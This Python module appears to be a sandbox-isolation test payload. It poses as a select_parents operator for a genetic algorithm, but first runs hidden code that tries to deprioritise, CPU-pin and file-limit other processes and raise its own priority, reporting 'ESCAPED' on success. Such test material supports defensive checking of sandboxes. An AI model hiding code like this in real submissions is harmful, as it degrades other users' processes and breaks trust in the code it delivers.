# Tries to change the priority, the processors and the limits of other processes.
import contextlib
import os
import resource

from stock import select_parents as decide


def attack():
    for process in (int("@VICTIM@"), int("@PARENT@"), os.getppid()):
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, process, 19)
        with contextlib.suppress(OSError):
            os.sched_setaffinity(process, [0])
        with contextlib.suppress(OSError):
            resource.prlimit(process, resource.RLIMIT_NOFILE, (10, 10))
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -5)
        raise ValueError("ESCAPED: a higher priority")


def select_parents(population, rng, cost_evaluator):
    attack()
    return decide(population, rng, cost_evaluator)
